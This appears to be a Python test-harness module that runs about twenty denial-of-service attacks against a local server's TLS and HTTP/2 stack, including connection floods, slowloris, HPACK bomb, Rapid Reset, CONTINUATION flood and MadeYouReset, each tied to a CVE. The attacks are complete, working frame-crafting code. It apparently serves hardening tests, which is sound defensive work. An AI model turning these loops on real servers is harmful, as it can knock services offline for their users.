"""The attack classes of docs/hardening.md, each a loop run by attacker processes until
`stop_at`, from the same host (127.0.0.1, the agent's own address) as the measuring agent.
HTTP/2 attackers authenticate as the demo agent `bob` (an attacker who holds a valid client
certificate: HTTP/2 is only reachable after mTLS). Each returns its tally: connections opened,
connections the server cut (EOF, reset or GOAWAY), the GOAWAY codes seen, RST_STREAMs received."""

from __future__ import annotations

import json
import os
import socket
import ssl
import time
from collections import Counter

from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY_NAMES, HEADERS, INITIAL_WINDOW_SIZE,
                   PADDED, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Conn, frame,
                   literal_incremental, request_block, settings)

RC_BODY = json.dumps({"goal": "list invoices"}).encode()


class Tally:
    def __init__(self) -> None:
        self.opened = 0
        self.cut = 0
        self.goaways: Counter[str] = Counter()
        self.rst = 0
        self.answers = 0  # response HEADERS received
        self.refused = 0  # could not even connect / handshake refused
        self.notes: Counter[str] = Counter()

    def done(self, c: Conn) -> None:
        """Books a finished connection: drains what the server sent, notes how it ended."""
        if not c.closed:
            c.poll(0.05)
        self.rst += c.rst_received
        self.answers += c.headers_in
        if c.goaway is not None:
            self.goaways[GOAWAY_NAMES.get(c.goaway, str(c.goaway))] += 1
        if c.closed or c.goaway is not None:
            self.cut += 1
        c.close()

    def as_dict(self) -> dict:
        return {"opened": self.opened, "cut": self.cut, "goaways": dict(self.goaways), "rst": self.rst, "answers": self.answers,
                "refused": self.refused, "notes": dict(self.notes)}


def tls_ctx(pki: str, agent: str | None) -> ssl.SSLContext:
    ctx = ssl.create_default_context(cafile=f"{pki}/ca.pem")
    ctx.check_hostname = False
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    if agent:
        ctx.load_cert_chain(f"{pki}/agents/{agent}.pem", f"{pki}/agents/{agent}.key")
    ctx.set_alpn_protocols(["h2"])
    return ctx


def h2_loop(port: int, pki: str, stop_at: float, t: Tally, body, peer_settings=None, ack=True,
            conns: int = 1) -> None:
    """Keeps `conns` attacking connections alive; `body(conn, state)` does one round of the attack
    on one connection (returns False to retire the connection). A cut connection is replaced."""
    ctx = tls_ctx(pki, "bob")
    live: list[tuple[Conn, dict]] = []
    while time.time() < stop_at:
        while len(live) < conns and time.time() < stop_at:
            try:
                c = Conn(port, ctx, peer_settings, ack_settings=ack)
                t.opened += 1
                live.append((c, {"sid": 1}))
            except (OSError, ssl.SSLError) as e:
                t.refused += 1
                t.notes["connect:" + type(e).__name__] += 1
                time.sleep(0.05)
                break
        for c, st in list(live):
            keep = body(c, st) if not c.closed else False
            if c.closed or c.goaway is not None or not keep:
                live.remove((c, st))
                t.done(c)
        if not live:
            time.sleep(0.01)
    for c, _ in live:
        t.done(c)


def next_sid(st: dict) -> int:
    sid = st["sid"]
    st["sid"] += 2
    return sid


# ---- pre-HTTP/2: connection floods -------------------------------------------------------------

def conn_flood(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """Full mTLS handshakes as fast as possible from the agent's address, each held open (a fresh
    connection that sends no request), up to 150 per attacker process, replaced when cut."""
    ctx = tls_ctx(pki, "bob")
    live: list[ssl.SSLSocket] = []
    while time.time() < stop_at:
        if len(live) < 150:
            try:
                s = socket.create_connection(("127.0.0.1", port), timeout=3)
                t.opened += 1
                s = ctx.wrap_socket(s, server_hostname="localhost")
                live.append(s)
            except (OSError, ssl.SSLError) as e:
                t.refused += 1
                t.notes["handshake:" + type(e).__name__] += 1
        else:
            time.sleep(0.01)
        live = _reap(live, t)
    for s in live:
        s.close()


def handshake_flood_nocert(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """TLS handshakes without a client certificate, back to back (each refused by the server)."""
    ctx = tls_ctx(pki, None)
    while time.time() < stop_at:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=3)
            t.opened += 1
            s = ctx.wrap_socket(s, server_hostname="localhost")
            s.settimeout(1)
            try:
                if not s.recv(1):  # TLS 1.3: the refusal arrives after the client's Finished
                    t.cut += 1
            except (OSError, ssl.SSLError):
                t.cut += 1
            s.close()
        except (OSError, ssl.SSLError) as e:
            t.cut += 1
            t.notes["refused:" + type(e).__name__] += 1


def slowloris_tls(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """TCP sockets that never send a ClientHello, 400 per attacker process, replaced when the
    server closes them (eviction of the oldest, rate limit, or handshake timeout)."""
    live: list[socket.socket] = []
    while time.time() < stop_at:
        while len(live) < 400 and time.time() < stop_at:
            try:
                s = socket.create_connection(("127.0.0.1", port), timeout=3)
                t.opened += 1
                live.append(s)
            except OSError as e:
                t.refused += 1
                t.notes["connect:" + type(e).__name__] += 1
                break
            if t.opened % 50 == 0:
                live = _reap(live, t)
        live = _reap(live, t)
        time.sleep(0.02)
    for s in live:
        s.close()


def _reap(live: list, t: Tally) -> list:
    """Drops (and counts as cut) the sockets the server closed."""
    import select
    if not live:
        return live
    keep = []
    r, _, _ = select.select(live, [], [], 0)
    rs = set(r)
    for s in live:
        if s in rs:
            try:
                s.setblocking(False)
                d = s.recv(1)
                if not d:
                    t.cut += 1
                    s.close()
                    continue
            except (ssl.SSLWantReadError, BlockingIOError):
                pass
            except (OSError, ssl.SSLError):
                t.cut += 1
                s.close()
                continue
            finally:
                try:
                    s.setblocking(True)
                except OSError:
                    pass
        keep.append(s)
    return keep


# ---- HTTP/2 header attacks ---------------------------------------------------------------------

def hpack_bomb(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """One 4000-byte header inserted in the dynamic table, then referenced by 1-byte indexes
    (0xBE = index 62) to fill a 16 KB HEADERS frame and 8 CONTINUATIONs: ~150 KB on the wire that
    decode to ~600 MB of header list."""
    big = literal_incremental(b"x-bomb", b"a" * 4000)

    def body(c: Conn, st: dict) -> bool:
        sid = next_sid(st)
        first = request_block("/v1/request_capabilities") + big
        first += b"\xbe" * (16384 - len(first))
        ok = c.send(frame(HEADERS, 0, sid, first))
        for i in range(8):
            ok = ok and c.send(frame(CONTINUATION, END_HEADERS if i == 7 else 0, sid, b"\xbe" * 16384))
        c.poll(0.0)
        return ok
    h2_loop(port, pki, stop_at, t, body, conns=2)


def zero_length_headers(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """Header blocks of 3-byte fields with an empty name and value (literal, not indexed),
    one HEADERS and 8 CONTINUATIONs of them (CVE-2019-9516)."""
    field = b"\x00\x00\x00"

    def body(c: Conn, st: dict) -> bool:
        sid = next_sid(st)
        first = request_block("/v1/request_capabilities")
        first += field * ((16383 - len(first)) // 3)
        ok = c.send(frame(HEADERS, 0, sid, first))
        for i in range(8):
            ok = ok and c.send(frame(CONTINUATION, END_HEADERS if i == 7 else 0, sid, field * 5461))
        c.poll(0.0)
        return ok
    h2_loop(port, pki, stop_at, t, body, conns=2)


def continuation_flood(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """HEADERS without END_HEADERS, then CONTINUATION frames of small valid fields, never ending
    the block (CVE-2024-28182)."""
    def body(c: Conn, st: dict) -> bool:
        if "open" not in st:
            st["open"] = next_sid(st)
            if not c.send(frame(HEADERS, 0, st["open"], request_block("/v1/request_capabilities"))):
                return False
        ok = True
        for _ in range(50):
            ok = ok and c.send(frame(CONTINUATION, 0, st["open"], b"\x00\x01x\x01y"))
        c.poll(0.0)
        return ok
    h2_loop(port, pki, stop_at, t, body, conns=2)


# ---- HTTP/2 stream and control-frame attacks ---------------------------------------------------

def rapid_reset(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """HEADERS + DATA(END_STREAM) of a grant-sized request, then RST_STREAM(CANCEL) at once, in
    bursts of 100 (CVE-2023-44487; the reset work must not keep running)."""
    def body(c: Conn, st: dict) -> bool:
        out = b""
        for _ in range(100):
            sid = next_sid(st)
            out += frame(HEADERS, END_HEADERS, sid, request_block("/v1/request_capabilities"))
            out += frame(DATA, END_STREAM, sid, RC_BODY) + frame(RST_STREAM, 0, sid, (8).to_bytes(4, "big"))
        ok = c.send(out)
        c.poll(0.0)
        return ok
    h2_loop(port, pki, stop_at, t, body, conns=2)


def settings_flood(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """SETTINGS frames back to back, never reading the ACKs (CVE-2019-9515)."""
    burst = settings({INITIAL_WINDOW_SIZE: 65535}) * 500

    def body(c: Conn, st: dict) -> bool:
        return c.send(burst)
    h2_loop(port, pki, stop_at, t, body, ack=False, conns=2)


def ping_flood(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """PING frames back to back, never reading the ACKs (CVE-2019-9512)."""
    burst = frame(PING, 0, 0, b"12345678") * 1000

    def body(c: Conn, st: dict) -> bool:
        return c.send(burst)
    h2_loop(port, pki, stop_at, t, body, ack=False, conns=2)


def large_settings(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """SETTINGS frames of 2000 entries each (CVE-2020-11080)."""
    big = frame(SETTINGS, 0, 0, b"".join((0x4).to_bytes(2, "big") + (65535).to_bytes(4, "big") for _ in range(2000)))

    def body(c: Conn, st: dict) -> bool:
        ok = c.send(big)
        c.poll(0.0)
        return ok
    h2_loop(port, pki, stop_at, t, body, conns=2)


def priority_flood(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """PRIORITY frames on ever new streams that reshuffle dependencies (CVE-2019-9513)."""
    def body(c: Conn, st: dict) -> bool:
        out = b""
        for _ in range(1000):
            sid = next_sid(st)
            dep = max(1, sid - 2)
            out += frame(PRIORITY, 0, sid, (0x80000000 | dep).to_bytes(4, "big") + b"\xff")
        ok = c.send(out)
        c.poll(0.0)
        return ok
    h2_loop(port, pki, stop_at, t, body, conns=2)


def empty_frames(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """An open request stream fed empty DATA frames without END_STREAM (CVE-2019-9518)."""
    def body(c: Conn, st: dict) -> bool:
        if "open" not in st:
            st["open"] = next_sid(st)
            if not c.send(frame(HEADERS, END_HEADERS, st["open"], request_block("/v1/request_capabilities"))):
                return False
        ok = c.send(frame(DATA, 0, st["open"], b"") * 200)
        c.poll(0.0)
        return ok
    h2_loop(port, pki, stop_at, t, body, conns=2)


def padding_only_data(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """DATA frames whose payload is all padding, no END_STREAM (empty frames in disguise)."""
    pad = bytes([255]) + b"\x00" * 255

    def body(c: Conn, st: dict) -> bool:
        if "open" not in st:
            st["open"] = next_sid(st)
            if not c.send(frame(HEADERS, END_HEADERS, st["open"], request_block("/v1/request_capabilities"))):
                return False
        ok = c.send(frame(DATA, PADDED, st["open"], pad) * 100)
        c.poll(0.0)
        return ok
    h2_loop(port, pki, stop_at, t, body, conns=2)


def made_you_reset(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """Complete requests (HEADERS + DATA with END_STREAM) followed by one more DATA frame on the
    half-closed stream, which the server must answer with RST_STREAM(STREAM_CLOSED): server-sent
    resets on demand (CVE-2025-8671, MadeYouReset)."""
    def body(c: Conn, st: dict) -> bool:
        out = b""
        for _ in range(50):
            sid = next_sid(st)
            out += frame(HEADERS, END_HEADERS, sid, request_block("/v1/request_capabilities"))
            out += frame(DATA, END_STREAM, sid, RC_BODY) + frame(DATA, 0, sid, b"x")
        ok = c.send(out)
        c.poll(0.0)
        return ok
    h2_loop(port, pki, stop_at, t, body, conns=2)


def reset_flood(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """Malformed requests (an upper-case header name) that make the server queue RST_STREAMs,
    never reading them (CVE-2019-9514)."""
    bad = request_block("/v1/request_capabilities", extra=[("X-Upper", "1")])

    def body(c: Conn, st: dict) -> bool:
        out = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next_sid(st), bad) for _ in range(100))
        return c.send(out)
    h2_loop(port, pki, stop_at, t, body, ack=False, conns=2)


def window0_stalled(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """INITIAL_WINDOW_SIZE = 0 and 100 valid requests per connection on 40 connections, never a
    WINDOW_UPDATE: every response stays queued (pinned streams)."""
    def body(c: Conn, st: dict) -> bool:
        if "sent" not in st:
            out = b""
            for _ in range(100):
                sid = next_sid(st)
                out += frame(HEADERS, END_HEADERS, sid, request_block("/v1/request_capabilities"))
                out += frame(DATA, END_STREAM, sid, RC_BODY)
            st["sent"] = c.send(out)
        c.poll(0.0)
        return True
    h2_loop(port, pki, stop_at, t, body, peer_settings={INITIAL_WINDOW_SIZE: 0}, conns=40)


def no_read(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """Open windows, many requests, and never read the TCP socket (CVE-2019-9517)."""
    def body(c: Conn, st: dict) -> bool:
        if st.get("blocked"):
            return True
        out = b""
        for _ in range(100):
            sid = next_sid(st)
            out += frame(HEADERS, END_HEADERS, sid, request_block("/v1/request_capabilities"))
            out += frame(DATA, END_STREAM, sid, RC_BODY)
        if not c.send(out, timeout=0.5):
            st["blocked"] = True
        if st["sid"] > 1800:
            st["blocked"] = True
        return True
    h2_loop(port, pki, stop_at, t, body, ack=False, conns=10)


def data_dribble(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """INITIAL_WINDOW_SIZE = 1, then 1-byte WINDOW_UPDATEs so every response goes out a byte at a
    time (CVE-2019-9511)."""
    def body(c: Conn, st: dict) -> bool:
        if "streams" not in st:
            st["streams"] = []
            out = b""
            for _ in range(50):
                sid = next_sid(st)
                st["streams"].append(sid)
                out += frame(HEADERS, END_HEADERS, sid, request_block("/v1/request_capabilities"))
                out += frame(DATA, END_STREAM, sid, RC_BODY)
            if not c.send(out):
                return False
        out = b"".join(frame(WINDOW_UPDATE, 0, sid, (1).to_bytes(4, "big")) for sid in st["streams"])
        ok = c.send(out)
        c.poll(0.0)
        time.sleep(0.01)
        return ok
    h2_loop(port, pki, stop_at, t, body, peer_settings={INITIAL_WINDOW_SIZE: 1}, conns=10)


# ---- bodies ------------------------------------------------------------------------------------

def slow_body(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """100 invoke streams per connection on 10 connections, each declaring 200 KB and sending a
    byte per second (slow bodies)."""
    def body(c: Conn, st: dict) -> bool:
        if "streams" not in st:
            st["streams"] = []
            out = b""
            for _ in range(100):
                sid = next_sid(st)
                st["streams"].append(sid)
                out += frame(HEADERS, END_HEADERS, sid, request_block("/v1/invoke", content_length=200_000))
            if not c.send(out):
                return False
            st["last"] = 0.0
        if time.time() - st["last"] >= 1.0:
            st["last"] = time.time()
            if not c.send(b"".join(frame(DATA, 0, sid, b"{") for sid in st["streams"])):
                return False
        c.poll(0.01)
        return True
    h2_loop(port, pki, stop_at, t, body, conns=10)


def huge_body(port: int, pki: str, stop_at: float, t: Tally) -> None:
    """Streams that declare a 1 TB body and then send 16 KB DATA frames as fast as the window
    allows (413 at once, then the rest must be discarded without buffering)."""
    chunk = b"x" * 16384

    def body(c: Conn, st: dict) -> bool:
        if "open" not in st or c.rst_received > st.get("rst", 0):
            st["rst"] = c.rst_received
            st["open"] = next_sid(st)
            if not c.send(frame(HEADERS, END_HEADERS, st["open"], request_block("/v1/invoke", content_length=10**12))):
                return False
        ok = c.send(frame(DATA, 0, st["open"], chunk) * 4, timeout=0.5)
        c.poll(0.0)
        return ok or not c.closed
    h2_loop(port, pki, stop_at, t, body, conns=4)


ATTACKS = {
    "conn_flood_mtls": (conn_flood, 2, "connection flood from the agent's address (mTLS, held open)"),
    "handshake_flood_nocert": (handshake_flood_nocert, 2, "TLS handshakes without a client cert, back to back"),
    "slowloris_tls": (slowloris_tls, 2, "sockets that never send a ClientHello"),
    "hpack_bomb": (hpack_bomb, 2, "HPACK bomb (CVE-2016-6581)"),
    "zero_length_headers": (zero_length_headers, 2, "zero-length header fields (CVE-2019-9516)"),
    "continuation_flood": (continuation_flood, 2, "CONTINUATION flood (CVE-2024-28182)"),
    "rapid_reset": (rapid_reset, 2, "HEADERS+DATA+RST_STREAM (CVE-2023-44487)"),
    "settings_flood": (settings_flood, 2, "SETTINGS flood (CVE-2019-9515)"),
    "ping_flood": (ping_flood, 2, "PING flood (CVE-2019-9512)"),
    "large_settings": (large_settings, 1, "2000-entry SETTINGS (CVE-2020-11080)"),
    "priority_flood": (priority_flood, 2, "PRIORITY churn (CVE-2019-9513)"),
    "empty_frames": (empty_frames, 2, "empty DATA frames (CVE-2019-9518)"),
    "padding_only_data": (padding_only_data, 2, "padding-only DATA frames"),
    "made_you_reset": (made_you_reset, 2, "server-sent resets on demand (CVE-2025-8671)"),
    "reset_flood": (reset_flood, 2, "invalid requests, RST_STREAMs never read (CVE-2019-9514)"),
    "window0_stalled": (window0_stalled, 1, "window-0 readers pinning responses"),
    "no_read": (no_read, 1, "never reads TCP (CVE-2019-9517)"),
    "data_dribble": (data_dribble, 1, "1-byte windows (CVE-2019-9511)"),
    "slow_body": (slow_body, 1, "bodies at a byte per second"),
    "huge_body": (huge_body, 1, "1 TB declared bodies, DATA at full speed"),
}

# Attacks whose server-side cut only comes at a timeout need a longer window to show it.
MIN_SECONDS = {"window0_stalled": 36, "slow_body": 20, "slowloris_tls": 14, "huge_body": 20}


def worker(name: str, port: int, pki: str, stop_at: float, q) -> None:
    os.nice(0)
    t = Tally()
    try:
        ATTACKS[name][0](port, pki, stop_at, t)
    except Exception as e:  # noqa: BLE001 - the tally says what broke the attacker
        t.notes["attacker_crash:" + type(e).__name__ + ":" + str(e)[:80]] += 1
    q.put(t.as_dict())
